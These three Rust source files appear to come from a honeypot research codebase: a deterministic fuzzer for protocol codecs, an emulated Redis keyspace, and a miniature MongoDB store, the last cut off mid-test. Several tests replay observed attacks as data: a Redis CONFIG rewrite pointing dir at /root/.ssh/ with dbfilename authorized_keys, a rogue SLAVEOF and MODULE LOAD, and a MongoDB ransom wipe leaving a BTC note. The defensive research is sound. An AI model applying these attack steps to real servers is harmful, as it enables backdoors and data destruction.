#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-fuzz
//!
//! A deterministic, in-tree mutation fuzzer for the attacker-facing byte
//! path. No `cargo-fuzz`, no OS entropy, no network: a seeded
//! [`XorShift64`] drives byte-level mutations (bit flips, truncation,
//! splicing, length-field tampering) over a seed corpus, and the same seed
//! always produces the same input sequence — a CI failure is reproducible
//! by iteration number alone.
//!
//! The harness lives in the workspace's `tests/wire_total.rs`: every
//! `decoy-wire` codec must return `Ok`/`Err` — never panic — on every
//! mutated input. The seed corpora under `tests/corpus/<protocol>/` cover
//! the malformed shapes the paper's honeypots actually received: truncated
//! headers, zero and maximal declared lengths, wrong magic, mid-frame EOF.

use std::path::Path;

/// Marsaglia xorshift64 PRNG. Deterministic, dependency-free, and good
/// enough to steer byte mutations (this is not a cryptographic generator).
#[derive(Debug, Clone)]
pub struct XorShift64 {
    state: u64,
}

impl XorShift64 {
    /// A generator with the given seed (zero is mapped to a fixed non-zero
    /// constant; xorshift has an all-zero fixed point).
    pub fn new(seed: u64) -> Self {
        XorShift64 {
            state: if seed == 0 {
                0x9E37_79B9_7F4A_7C15
            } else {
                seed
            },
        }
    }

    /// Next pseudo-random 64-bit value.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.state;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.state = x;
        x
    }

    /// A pseudo-random byte.
    pub fn byte(&mut self) -> u8 {
        // low 8 bits of the PRNG word, truncation intended
        (self.next_u64() & 0xFF) as u8
    }

    /// Uniform-ish value in `0..n`; returns 0 when `n == 0`.
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            usize::try_from(self.next_u64() % (n as u64)).unwrap_or(0)
        }
    }
}

/// Interesting values for length-field tampering: boundary conditions a
/// bounds check is most likely to get wrong.
const INTERESTING_U32: [u32; 8] = [
    0,
    1,
    7,
    0x0000_FFFF,
    0x0001_0000,
    0x00FF_FFFF,
    0x7FFF_FFFF,
    0xFFFF_FFFF,
];

/// A seeded mutator producing hostile variants of corpus inputs.
#[derive(Debug, Clone)]
pub struct Mutator {
    rng: XorShift64,
}

impl Mutator {
    /// A mutator with the given seed.
    pub fn new(seed: u64) -> Self {
        Mutator {
            rng: XorShift64::new(seed),
        }
    }

    /// Produce one mutated input: pick a seed from `seeds`, then apply
    /// 1–4 random mutations. Returns an empty vector if `seeds` is empty.
    pub fn mutate(&mut self, seeds: &[Vec<u8>]) -> Vec<u8> {
        let Some(seed) = seeds.get(self.rng.below(seeds.len())) else {
            return Vec::new();
        };
        let mut input = seed.clone();
        let rounds = 1 + self.rng.below(4);
        for _ in 0..rounds {
            self.mutate_once(&mut input, seeds);
        }
        input
    }

    /// Apply one randomly chosen byte-level mutation in place.
    fn mutate_once(&mut self, input: &mut Vec<u8>, seeds: &[Vec<u8>]) {
        match self.rng.below(6) {
            0 => self.bit_flip(input),
            1 => self.byte_set(input),
            2 => self.truncate(input),
            3 => self.extend(input),
            4 => self.splice(input, seeds),
            _ => self.length_tamper(input),
        }
    }

    /// Produce a corrupted variant of an encoded journal — a list of
    /// segment byte buffers in replay order. On top of the byte-level set
    /// (bit flips, truncations, splices, length tampering inside one
    /// segment), journals get whole-segment faults: a dropped segment, a
    /// duplicated segment, and a reordered pair — the shapes a sick
    /// filesystem or a botched copy produces. The recovery property under
    /// test: replay yields a prefix of the original events, never a panic.
    pub fn mutate_journal(&mut self, segments: &[Vec<u8>]) -> Vec<Vec<u8>> {
        let mut out: Vec<Vec<u8>> = segments.to_vec();
        let rounds = 1 + self.rng.below(3);
        for _ in 0..rounds {
            if out.is_empty() {
                break;
            }
            match self.rng.below(10) {
                0 => {
                    out.remove(self.rng.below(out.len()));
                }
                1 => {
                    let i = self.rng.below(out.len());
                    if let Some(seg) = out.get(i).cloned() {
                        out.insert(i, seg);
                    }
                }
                2 => {
                    let i = self.rng.below(out.len());
                    let j = self.rng.below(out.len());
                    out.swap(i, j);
                }
                _ => {
                    let i = self.rng.below(out.len());
                    if let Some(seg) = out.get_mut(i) {
                        self.mutate_once(seg, segments);
                    }
                }
            }
        }
        out
    }

    fn bit_flip(&mut self, input: &mut [u8]) {
        if input.is_empty() {
            return;
        }
        let pos = self.rng.below(input.len());
        let bit = self.rng.below(8);
        if let Some(b) = input.get_mut(pos) {
            *b ^= 1u8.wrapping_shl(u32::try_from(bit).unwrap_or(0));
        }
    }

    fn byte_set(&mut self, input: &mut [u8]) {
        if input.is_empty() {
            return;
        }
        let pos = self.rng.below(input.len());
        let val = self.rng.byte();
        if let Some(b) = input.get_mut(pos) {
            *b = val;
        }
    }

    fn truncate(&mut self, input: &mut Vec<u8>) {
        input.truncate(self.rng.below(input.len().saturating_add(1)));
    }

    fn extend(&mut self, input: &mut Vec<u8>) {
        let extra = 1 + self.rng.below(32);
        for _ in 0..extra {
            input.push(self.rng.byte());
        }
    }

    fn splice(&mut self, input: &mut Vec<u8>, seeds: &[Vec<u8>]) {
        let Some(other) = seeds.get(self.rng.below(seeds.len())) else {
            return;
        };
        let cut = self.rng.below(input.len().saturating_add(1));
        let from = self.rng.below(other.len().saturating_add(1));
        input.truncate(cut);
        input.extend_from_slice(other.get(from..).unwrap_or_default());
    }

    /// Overwrite a 2- or 4-byte window with an interesting boundary value,
    /// in a random endianness — aimed at length-prefix fields.
    fn length_tamper(&mut self, input: &mut Vec<u8>) {
        if input.is_empty() {
            return;
        }
        let value = INTERESTING_U32
            .get(self.rng.below(INTERESTING_U32.len()))
            .copied()
            .unwrap_or(0);
        let wide = self.rng.below(2) == 0;
        let le = self.rng.below(2) == 0;
        let width = if wide { 4 } else { 2 };
        let pos = self.rng.below(input.len());
        let bytes: Vec<u8> = if wide {
            if le {
                value.to_le_bytes().to_vec()
            } else {
                value.to_be_bytes().to_vec()
            }
        } else {
            // low 16 bits selected on purpose
            let v16 = (value & 0xFFFF) as u16;
            if le {
                v16.to_le_bytes().to_vec()
            } else {
                v16.to_be_bytes().to_vec()
            }
        };
        for (i, b) in bytes.iter().take(width).enumerate() {
            match pos.checked_add(i).and_then(|p| input.get_mut(p)) {
                Some(slot) => *slot = *b,
                None => input.push(*b),
            }
        }
    }
}

/// Load every `*.bin` file under `dir`, sorted by name for determinism.
pub fn load_corpus(dir: &Path) -> std::io::Result<Vec<Vec<u8>>> {
    let mut paths: Vec<_> = std::fs::read_dir(dir)?
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "bin"))
        .collect();
    paths.sort();
    paths.iter().map(std::fs::read).collect()
}

/// Iteration count for fuzz harnesses: `DECOY_FUZZ_ITERS` if set and
/// parseable, else `default`. CI smoke jobs set a reduced count.
pub fn iterations(default: usize) -> usize {
    std::env::var("DECOY_FUZZ_ITERS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prng_is_deterministic_and_nondegenerate() {
        let mut a = XorShift64::new(42);
        let mut b = XorShift64::new(42);
        let xs: Vec<u64> = (0..64).map(|_| a.next_u64()).collect();
        let ys: Vec<u64> = (0..64).map(|_| b.next_u64()).collect();
        assert_eq!(xs, ys);
        // not constant, and zero seed does not collapse to zero
        assert!(xs.windows(2).any(|w| w[0] != w[1]));
        let mut z = XorShift64::new(0);
        assert_ne!(z.next_u64(), 0);
    }

    #[test]
    fn below_is_in_range() {
        let mut rng = XorShift64::new(7);
        for n in [1usize, 2, 3, 10, 255] {
            for _ in 0..100 {
                assert!(rng.below(n) < n);
            }
        }
        assert_eq!(rng.below(0), 0);
    }

    #[test]
    fn mutator_is_deterministic() {
        let seeds = vec![b"hello world".to_vec(), vec![0u8; 16]];
        let mut a = Mutator::new(1234);
        let mut b = Mutator::new(1234);
        for _ in 0..200 {
            assert_eq!(a.mutate(&seeds), b.mutate(&seeds));
        }
    }

    #[test]
    fn mutator_produces_varied_inputs() {
        let seeds = vec![vec![0xAAu8; 32]];
        let mut m = Mutator::new(99);
        let outputs: Vec<Vec<u8>> = (0..50).map(|_| m.mutate(&seeds)).collect();
        let distinct: std::collections::HashSet<_> = outputs.iter().collect();
        assert!(distinct.len() > 10, "mutations look degenerate");
    }

    #[test]
    fn empty_seed_list_yields_empty_input() {
        let mut m = Mutator::new(5);
        assert!(m.mutate(&[]).is_empty());
        assert!(m.mutate_journal(&[]).is_empty());
    }

    #[test]
    fn journal_mutations_are_deterministic_and_varied() {
        let segments = vec![vec![0x11u8; 40], vec![0x22u8; 40], vec![0x33u8; 40]];
        let mut a = Mutator::new(77);
        let mut b = Mutator::new(77);
        for _ in 0..100 {
            assert_eq!(a.mutate_journal(&segments), b.mutate_journal(&segments));
        }
        let mut m = Mutator::new(78);
        let outputs: Vec<Vec<Vec<u8>>> = (0..100).map(|_| m.mutate_journal(&segments)).collect();
        let distinct: std::collections::HashSet<_> = outputs.iter().collect();
        assert!(distinct.len() > 20, "journal mutations look degenerate");
        // whole-segment ops fire: some variant changes the segment count
        assert!(
            outputs.iter().any(|o| o.len() != segments.len()),
            "no drop/duplicate mutation observed in 100 rounds"
        );
    }

    #[test]
    fn iterations_env_override() {
        // no env manipulation here (tests run in parallel); just the default
        assert_eq!(iterations(10_000), 10_000);
    }
}
