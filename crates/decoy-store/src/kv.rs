//! A Redis-like keyspace.
//!
//! Backs the medium-interaction Redis honeypot: real `SET`/`GET`/`DEL`/
//! `KEYS`/`TYPE` semantics (RedisHoneyPot answers 14 operations — §4.1), a
//! `CONFIG` table that the P2PInfect and SSH-backdoor campaigns mutate
//! (Listing 1 rewrites `dir`/`dbfilename`), and replication state for
//! `SLAVEOF`. The fake-data variant preloads Mockaroo-style login entries.

use parking_lot::RwLock;
use std::collections::BTreeMap;

/// A stored value. Only strings are needed by the observed traffic, but the
/// type is an enum so `TYPE` answers faithfully if richer values are added.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum KvValue {
    /// A Redis string (binary-safe).
    Str(Vec<u8>),
    /// A Redis hash.
    Hash(BTreeMap<String, Vec<u8>>),
    /// A Redis list.
    List(Vec<Vec<u8>>),
}

impl KvValue {
    /// The `TYPE` command's answer for this value.
    pub fn type_name(&self) -> &'static str {
        match self {
            KvValue::Str(_) => "string",
            KvValue::Hash(_) => "hash",
            KvValue::List(_) => "list",
        }
    }
}

/// Replication state set by `SLAVEOF`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum ReplicationRole {
    /// Acting as master (`SLAVEOF NO ONE` or initial state).
    #[default]
    Master,
    /// Replicating from `host:port` — the exploitation pivot of the
    /// rogue-server technique in Listing 1.
    SlaveOf {
        /// Master host as given.
        host: String,
        /// Master port as given.
        port: u16,
    },
}

/// The keyspace. Interior mutability so one instance can be shared by the
/// honeypot session tasks.
#[derive(Debug, Default)]
pub struct KvStore {
    inner: RwLock<KvInner>,
}

#[derive(Debug)]
struct KvInner {
    data: BTreeMap<String, KvValue>,
    config: BTreeMap<String, String>,
    role: ReplicationRole,
    loaded_modules: Vec<String>,
    dirty_since_save: bool,
}

impl Default for KvInner {
    fn default() -> Self {
        let mut config = BTreeMap::new();
        // The defaults the P2PInfect script reads back and restores.
        config.insert("dir".to_string(), "/var/lib/redis".to_string());
        config.insert("dbfilename".to_string(), "dump.rdb".to_string());
        config.insert("rdbcompression".to_string(), "yes".to_string());
        config.insert("save".to_string(), "3600 1 300 100 60 10000".to_string());
        KvInner {
            data: BTreeMap::new(),
            config,
            role: ReplicationRole::Master,
            loaded_modules: Vec::new(),
            dirty_since_save: false,
        }
    }
}

/// Simple glob matching supporting `*` and `?` (what `KEYS` needs).
pub fn glob_match(pattern: &str, text: &str) -> bool {
    fn rec(p: &[u8], t: &[u8]) -> bool {
        match (p.first(), t.first()) {
            (None, None) => true,
            (Some(b'*'), _) => rec(&p[1..], t) || (!t.is_empty() && rec(p, &t[1..])),
            (Some(b'?'), Some(_)) => rec(&p[1..], &t[1..]),
            (Some(a), Some(b)) if a == b => rec(&p[1..], &t[1..]),
            _ => false,
        }
    }
    rec(pattern.as_bytes(), text.as_bytes())
}

impl KvStore {
    /// An empty store with default config.
    pub fn new() -> Self {
        KvStore::default()
    }

    /// A store preloaded with `(key, value)` string pairs — the fake-data
    /// configuration of §4.2 (200 Mockaroo user/password entries).
    pub fn with_entries(entries: impl IntoIterator<Item = (String, String)>) -> Self {
        let store = KvStore::new();
        {
            let mut inner = store.inner.write();
            for (k, v) in entries {
                inner.data.insert(k, KvValue::Str(v.into_bytes()));
            }
        }
        store
    }

    /// `SET key value`.
    pub fn set(&self, key: &str, value: Vec<u8>) {
        let mut inner = self.inner.write();
        inner.data.insert(key.to_string(), KvValue::Str(value));
        inner.dirty_since_save = true;
    }

    /// `GET key`.
    pub fn get(&self, key: &str) -> Option<Vec<u8>> {
        match self.inner.read().data.get(key) {
            Some(KvValue::Str(v)) => Some(v.clone()),
            _ => None,
        }
    }

    /// `DEL key...` — returns how many existed.
    pub fn del(&self, keys: &[&str]) -> usize {
        let mut inner = self.inner.write();
        let mut removed = 0;
        for key in keys {
            if inner.data.remove(*key).is_some() {
                removed += 1;
            }
        }
        if removed > 0 {
            inner.dirty_since_save = true;
        }
        removed
    }

    /// `EXISTS key`.
    pub fn exists(&self, key: &str) -> bool {
        self.inner.read().data.contains_key(key)
    }

    /// `KEYS pattern`.
    pub fn keys(&self, pattern: &str) -> Vec<String> {
        self.inner
            .read()
            .data
            .keys()
            .filter(|k| glob_match(pattern, k))
            .cloned()
            .collect()
    }

    /// `TYPE key` — `none` when absent.
    pub fn type_of(&self, key: &str) -> &'static str {
        self.inner
            .read()
            .data
            .get(key)
            .map(|v| v.type_name())
            .unwrap_or("none")
    }

    /// `DBSIZE`.
    pub fn len(&self) -> usize {
        self.inner.read().data.len()
    }

    /// True when the keyspace is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// `FLUSHDB` / `FLUSHALL`.
    pub fn flush(&self) {
        let mut inner = self.inner.write();
        inner.data.clear();
        inner.dirty_since_save = true;
    }

    /// `CONFIG GET param` (glob patterns supported, like real Redis).
    pub fn config_get(&self, param: &str) -> Vec<(String, String)> {
        self.inner
            .read()
            .config
            .iter()
            .filter(|(k, _)| glob_match(&param.to_ascii_lowercase(), k))
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect()
    }

    /// `CONFIG SET param value`.
    pub fn config_set(&self, param: &str, value: &str) {
        self.inner
            .write()
            .config
            .insert(param.to_ascii_lowercase(), value.to_string());
    }

    /// `SAVE` — the honeypot pretends to persist; clears the dirty flag.
    pub fn save(&self) {
        self.inner.write().dirty_since_save = false;
    }

    /// Whether writes happened since the last `SAVE`.
    pub fn dirty(&self) -> bool {
        self.inner.read().dirty_since_save
    }

    /// `SLAVEOF host port` / `SLAVEOF NO ONE`.
    pub fn set_role(&self, role: ReplicationRole) {
        self.inner.write().role = role;
    }

    /// Current replication role.
    pub fn role(&self) -> ReplicationRole {
        self.inner.read().role.clone()
    }

    /// `HSET key field value` — returns true when the field is new.
    pub fn hset(&self, key: &str, field: &str, value: Vec<u8>) -> bool {
        let mut inner = self.inner.write();
        inner.dirty_since_save = true;
        let entry = inner
            .data
            .entry(key.to_string())
            .or_insert_with(|| KvValue::Hash(BTreeMap::new()));
        match entry {
            KvValue::Hash(map) => map.insert(field.to_string(), value).is_none(),
            // Redis answers WRONGTYPE; the honeypot layer handles that —
            // here we overwrite to a fresh hash like a recovered keyspace.
            other => {
                let mut map = BTreeMap::new();
                map.insert(field.to_string(), value);
                *other = KvValue::Hash(map);
                true
            }
        }
    }

    /// `HGET key field`.
    pub fn hget(&self, key: &str, field: &str) -> Option<Vec<u8>> {
        match self.inner.read().data.get(key) {
            Some(KvValue::Hash(map)) => map.get(field).cloned(),
            _ => None,
        }
    }

    /// `HGETALL key` — field/value pairs in field order.
    pub fn hgetall(&self, key: &str) -> Vec<(String, Vec<u8>)> {
        match self.inner.read().data.get(key) {
            Some(KvValue::Hash(map)) => map.iter().map(|(k, v)| (k.clone(), v.clone())).collect(),
            _ => Vec::new(),
        }
    }

    /// `RPUSH key value...` — returns the new list length.
    pub fn rpush(&self, key: &str, values: Vec<Vec<u8>>) -> usize {
        let mut inner = self.inner.write();
        inner.dirty_since_save = true;
        let entry = inner
            .data
            .entry(key.to_string())
            .or_insert_with(|| KvValue::List(Vec::new()));
        match entry {
            KvValue::List(list) => {
                list.extend(values);
                list.len()
            }
            other => {
                let len = values.len();
                *other = KvValue::List(values);
                len
            }
        }
    }

    /// `LRANGE key start stop` with Redis index semantics (negative counts
    /// from the end; `stop` inclusive).
    pub fn lrange(&self, key: &str, start: i64, stop: i64) -> Vec<Vec<u8>> {
        let inner = self.inner.read();
        let Some(KvValue::List(list)) = inner.data.get(key) else {
            return Vec::new();
        };
        let len = list.len() as i64;
        let idx = |i: i64| -> i64 {
            if i < 0 {
                (len + i).max(0)
            } else {
                i.min(len)
            }
        };
        let (a, b) = (idx(start), idx(stop).min(len - 1));
        if len == 0 || a > b {
            return Vec::new();
        }
        list[a as usize..=(b as usize)].to_vec()
    }

    /// `LLEN key`.
    pub fn llen(&self, key: &str) -> usize {
        match self.inner.read().data.get(key) {
            Some(KvValue::List(list)) => list.len(),
            _ => 0,
        }
    }

    /// `MODULE LOAD path` — records the path; the honeypot never executes
    /// anything (ethics appendix A).
    pub fn module_load(&self, path: &str) {
        self.inner.write().loaded_modules.push(path.to_string());
    }

    /// `MODULE UNLOAD name` — returns whether a module matched.
    pub fn module_unload(&self, name: &str) -> bool {
        let mut inner = self.inner.write();
        let before = inner.loaded_modules.len();
        inner.loaded_modules.retain(|m| !m.contains(name));
        inner.loaded_modules.len() != before
    }

    /// Paths passed to `MODULE LOAD` so far (forensics).
    pub fn loaded_modules(&self) -> Vec<String> {
        self.inner.read().loaded_modules.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn set_get_del_exists() {
        let kv = KvStore::new();
        assert_eq!(kv.get("x"), None);
        kv.set("x", b"hello".to_vec());
        assert_eq!(kv.get("x"), Some(b"hello".to_vec()));
        assert!(kv.exists("x"));
        assert_eq!(kv.del(&["x", "y"]), 1);
        assert!(!kv.exists("x"));
        assert!(kv.is_empty());
    }

    #[test]
    fn keys_glob_patterns() {
        let kv = KvStore::with_entries([
            ("user:1".to_string(), "alice".to_string()),
            ("user:2".to_string(), "bob".to_string()),
            ("session:9".to_string(), "tok".to_string()),
        ]);
        let mut users = kv.keys("user:*");
        users.sort();
        assert_eq!(users, vec!["user:1", "user:2"]);
        assert_eq!(kv.keys("*").len(), 3);
        assert_eq!(kv.keys("user:?").len(), 2);
        assert_eq!(kv.keys("nope*").len(), 0);
    }

    #[test]
    fn glob_matcher_edge_cases() {
        assert!(glob_match("*", ""));
        assert!(glob_match("*", "anything"));
        assert!(glob_match("a*b", "ab"));
        assert!(glob_match("a*b", "aXXb"));
        assert!(!glob_match("a*b", "aXXc"));
        assert!(glob_match("??", "ab"));
        assert!(!glob_match("??", "a"));
        assert!(glob_match("", ""));
        assert!(!glob_match("", "a"));
    }

    #[test]
    fn type_command_semantics() {
        let kv = KvStore::new();
        kv.set("s", b"v".to_vec());
        assert_eq!(kv.type_of("s"), "string");
        assert_eq!(kv.type_of("missing"), "none");
        assert_eq!(KvValue::Hash(BTreeMap::new()).type_name(), "hash");
        assert_eq!(KvValue::List(vec![]).type_name(), "list");
    }

    #[test]
    fn flush_clears_everything() {
        let kv = KvStore::with_entries([("a".to_string(), "1".to_string())]);
        assert_eq!(kv.len(), 1);
        kv.flush();
        assert!(kv.is_empty());
    }

    #[test]
    fn config_defaults_match_p2pinfect_expectations() {
        // Listing 1 restores dir=/var/lib/redis (well, the script restores
        // prior values); defaults must exist for CONFIG GET to answer.
        let kv = KvStore::new();
        assert_eq!(
            kv.config_get("dir"),
            vec![("dir".to_string(), "/var/lib/redis".to_string())]
        );
        kv.config_set("dir", "/root/.ssh/");
        kv.config_set("dbfilename", "authorized_keys");
        assert_eq!(
            kv.config_get("dbfilename"),
            vec![("dbfilename".to_string(), "authorized_keys".to_string())]
        );
        // glob form, like CONFIG GET db*
        assert_eq!(kv.config_get("db*").len(), 1);
        assert!(kv.config_get("*").len() >= 4);
    }

    #[test]
    fn save_and_dirty_tracking() {
        let kv = KvStore::new();
        assert!(!kv.dirty());
        kv.set("x", b"1".to_vec());
        assert!(kv.dirty());
        kv.save();
        assert!(!kv.dirty());
    }

    #[test]
    fn slaveof_role_transitions() {
        let kv = KvStore::new();
        assert_eq!(kv.role(), ReplicationRole::Master);
        kv.set_role(ReplicationRole::SlaveOf {
            host: "203.0.113.9".into(),
            port: 8886,
        });
        assert!(matches!(kv.role(), ReplicationRole::SlaveOf { .. }));
        kv.set_role(ReplicationRole::Master);
        assert_eq!(kv.role(), ReplicationRole::Master);
    }

    #[test]
    fn hash_operations() {
        let kv = KvStore::new();
        assert!(kv.hset("h", "user", b"alice".to_vec()));
        assert!(!kv.hset("h", "user", b"bob".to_vec())); // overwrite
        assert!(kv.hset("h", "pass", b"pw".to_vec()));
        assert_eq!(kv.hget("h", "user"), Some(b"bob".to_vec()));
        assert_eq!(kv.hget("h", "missing"), None);
        assert_eq!(kv.hget("missing", "x"), None);
        let all = kv.hgetall("h");
        assert_eq!(all.len(), 2);
        assert_eq!(kv.type_of("h"), "hash");
        // hgetall on a string key is empty, not a panic
        kv.set("s", b"v".to_vec());
        assert!(kv.hgetall("s").is_empty());
    }

    #[test]
    fn list_operations_with_redis_index_semantics() {
        let kv = KvStore::new();
        assert_eq!(
            kv.rpush("l", vec![b"a".to_vec(), b"b".to_vec(), b"c".to_vec()]),
            3
        );
        assert_eq!(kv.rpush("l", vec![b"d".to_vec()]), 4);
        assert_eq!(kv.llen("l"), 4);
        assert_eq!(kv.type_of("l"), "list");
        assert_eq!(
            kv.lrange("l", 0, -1),
            vec![b"a".to_vec(), b"b".to_vec(), b"c".to_vec(), b"d".to_vec()]
        );
        assert_eq!(kv.lrange("l", 1, 2), vec![b"b".to_vec(), b"c".to_vec()]);
        assert_eq!(kv.lrange("l", -2, -1), vec![b"c".to_vec(), b"d".to_vec()]);
        assert!(kv.lrange("l", 3, 1).is_empty());
        assert!(kv.lrange("missing", 0, -1).is_empty());
        assert_eq!(kv.llen("missing"), 0);
    }

    #[test]
    fn module_load_unload_forensics() {
        let kv = KvStore::new();
        kv.module_load("/tmp/exp.so");
        assert_eq!(kv.loaded_modules(), vec!["/tmp/exp.so"]);
        assert!(!kv.module_unload("system"));
        assert!(kv.module_unload("exp.so"));
        assert!(kv.loaded_modules().is_empty());
    }
}
