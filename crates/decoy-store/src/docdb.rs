//! A miniature MongoDB storage engine.
//!
//! The paper's high-interaction honeypot fronts a *real* MongoDB instance so
//! attackers can actually enumerate, read, and delete data (which the ransom
//! campaigns of §6.3 did, table by table). This module is our substitute: a
//! databases → collections → documents store with the operations those
//! campaigns exercised: `insert`, `find` (equality filters + limit),
//! `delete`, `drop`, `listDatabases`, `listCollections`, `count`.

use decoy_wire::mongo::bson::{Bson, Document};
use parking_lot::RwLock;
use std::collections::BTreeMap;

/// The engine. Interior mutability so honeypot session tasks share it.
#[derive(Debug, Default)]
pub struct DocDb {
    inner: RwLock<BTreeMap<String, DatabaseData>>,
}

#[derive(Debug, Default, Clone)]
struct DatabaseData {
    collections: BTreeMap<String, Vec<Document>>,
}

/// Outcome of a write operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WriteResult {
    /// Number of documents affected.
    pub n: usize,
}

impl DocDb {
    /// An empty engine.
    pub fn new() -> Self {
        DocDb::default()
    }

    /// Insert documents, creating database/collection on demand.
    pub fn insert(&self, db: &str, coll: &str, docs: Vec<Document>) -> WriteResult {
        let mut inner = self.inner.write();
        let collection = inner
            .entry(db.to_string())
            .or_default()
            .collections
            .entry(coll.to_string())
            .or_default();
        let n = docs.len();
        collection.extend(docs);
        WriteResult { n }
    }

    /// Find documents matching `filter` by top-level equality; empty filter
    /// matches everything. `limit = 0` means no limit (MongoDB semantics).
    pub fn find(&self, db: &str, coll: &str, filter: &Document, limit: usize) -> Vec<Document> {
        let inner = self.inner.read();
        let Some(collection) = inner.get(db).and_then(|d| d.collections.get(coll)) else {
            return Vec::new();
        };
        let take = if limit == 0 { usize::MAX } else { limit };
        collection
            .iter()
            .filter(|doc| matches_filter(doc, filter))
            .take(take)
            .cloned()
            .collect()
    }

    /// Count documents matching `filter`.
    pub fn count(&self, db: &str, coll: &str, filter: &Document) -> usize {
        let inner = self.inner.read();
        inner
            .get(db)
            .and_then(|d| d.collections.get(coll))
            .map(|c| c.iter().filter(|doc| matches_filter(doc, filter)).count())
            .unwrap_or(0)
    }

    /// Delete documents matching `filter`; empty filter deletes all.
    pub fn delete(&self, db: &str, coll: &str, filter: &Document) -> WriteResult {
        let mut inner = self.inner.write();
        let Some(collection) = inner.get_mut(db).and_then(|d| d.collections.get_mut(coll)) else {
            return WriteResult { n: 0 };
        };
        let before = collection.len();
        collection.retain(|doc| !matches_filter(doc, filter));
        WriteResult {
            n: before - collection.len(),
        }
    }

    /// Drop one collection. Returns whether it existed.
    pub fn drop_collection(&self, db: &str, coll: &str) -> bool {
        let mut inner = self.inner.write();
        inner
            .get_mut(db)
            .map(|d| d.collections.remove(coll).is_some())
            .unwrap_or(false)
    }

    /// Drop a whole database. Returns whether it existed.
    pub fn drop_database(&self, db: &str) -> bool {
        self.inner.write().remove(db).is_some()
    }

    /// `listDatabases` — names in sorted order (what the scouting queries
    /// of §6 retrieve).
    pub fn list_databases(&self) -> Vec<String> {
        self.inner.read().keys().cloned().collect()
    }

    /// `listCollections` for one database.
    pub fn list_collections(&self, db: &str) -> Vec<String> {
        self.inner
            .read()
            .get(db)
            .map(|d| d.collections.keys().cloned().collect())
            .unwrap_or_default()
    }

    /// Approximate size in documents across all databases.
    pub fn total_documents(&self) -> usize {
        self.inner
            .read()
            .values()
            .flat_map(|d| d.collections.values())
            .map(|c| c.len())
            .sum()
    }
}

/// Top-level equality matching: every filter key must exist in `doc` with an
/// equal value ([`Bson`] equality).
fn matches_filter(doc: &Document, filter: &Document) -> bool {
    filter.iter().all(|(k, v)| doc.get(k) == Some(v))
}

/// Build the `listDatabases` command reply document.
pub fn list_databases_reply(db: &DocDb) -> Document {
    let mut databases = Vec::new();
    for name in db.list_databases() {
        databases.push(Bson::Document(
            Document::new()
                .with("name", name.as_str())
                .with("sizeOnDisk", 8192i64)
                .with("empty", false),
        ));
    }
    Document::new()
        .with("databases", databases)
        .with("totalSize", 8192i64)
        .with("ok", 1.0f64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_wire::mongo::bson::doc;

    fn customer(name: &str, card: &str) -> Document {
        doc! { "name" => name, "card" => card }
    }

    #[test]
    fn insert_find_roundtrip() {
        let db = DocDb::new();
        let r = db.insert(
            "shop",
            "customers",
            vec![customer("alice", "4111"), customer("bob", "4222")],
        );
        assert_eq!(r.n, 2);
        let all = db.find("shop", "customers", &Document::new(), 0);
        assert_eq!(all.len(), 2);
        let alice = db.find("shop", "customers", &doc! { "name" => "alice" }, 0);
        assert_eq!(alice.len(), 1);
        assert_eq!(alice[0].get_str("card"), Some("4111"));
    }

    #[test]
    fn find_respects_limit_and_missing_paths() {
        let db = DocDb::new();
        for i in 0..10 {
            db.insert("d", "c", vec![doc! { "i" => i }]);
        }
        assert_eq!(db.find("d", "c", &Document::new(), 3).len(), 3);
        assert_eq!(db.find("d", "c", &Document::new(), 0).len(), 10);
        assert!(db.find("nope", "c", &Document::new(), 0).is_empty());
        assert!(db.find("d", "nope", &Document::new(), 0).is_empty());
    }

    #[test]
    fn count_and_delete_with_filters() {
        let db = DocDb::new();
        db.insert(
            "d",
            "c",
            vec![
                doc! { "group" => "a", "v" => 1i32 },
                doc! { "group" => "a", "v" => 2i32 },
                doc! { "group" => "b", "v" => 3i32 },
            ],
        );
        assert_eq!(db.count("d", "c", &Document::new()), 3);
        assert_eq!(db.count("d", "c", &doc! { "group" => "a" }), 2);
        let r = db.delete("d", "c", &doc! { "group" => "a" });
        assert_eq!(r.n, 2);
        assert_eq!(db.count("d", "c", &Document::new()), 1);
        // empty filter deletes all (the ransom wipe)
        let r = db.delete("d", "c", &Document::new());
        assert_eq!(r.n, 1);
        assert_eq!(db.count("d", "c", &Document::new()), 0);
    }

    #[test]
    fn ransom_attack_sequence() {
        // §6.3: read everything table by table, delete it, insert a note.
        let db = DocDb::new();
        db.insert("prod", "users", vec![customer("alice", "4111")]);
        db.insert("prod", "orders", vec![doc! { "order" => 17i32 }]);

        // attacker enumerates
        assert_eq!(db.list_databases(), vec!["prod"]);
        assert_eq!(db.list_collections("prod"), vec!["orders", "users"]);

        // exfiltrates
        let stolen: usize = db
            .list_collections("prod")
            .iter()
            .map(|c| db.find("prod", c, &Document::new(), 0).len())
            .sum();
        assert_eq!(stolen, 2);

        // wipes and leaves the note
        for coll in db.list_collections("prod") {
            db.drop_collection("prod", &coll);
        }
        db.insert(
            "prod",
            "README",
            vec![doc! { "note" => "All your data is backed up. You must pay 0.0058 BTC" }],
        );
        assert_eq!(db.list_collections("prod"), vec!["README"]);
        assert_eq!(db.total_documents(), 1);
    }

    #[test]
    fn drop_database_and_collection_report_existence() {
        let db = DocDb::new();
        db.insert("d", "c", vec![doc! { "x" => 1i32 }]);
        assert!(db.drop_collection("d", "c"));
        assert!(!db.drop_collection("d", "c"));
        assert!(db.drop_database("d"));
        assert!(!db.drop_database("d"));
    }

    #[test]
    fn list_databases_reply_shape() {
        let db = DocDb::new();
        db.insert("admin", "system.version", vec![doc! { "v" => 1i32 }]);
        let reply = list_databases_reply(&db);
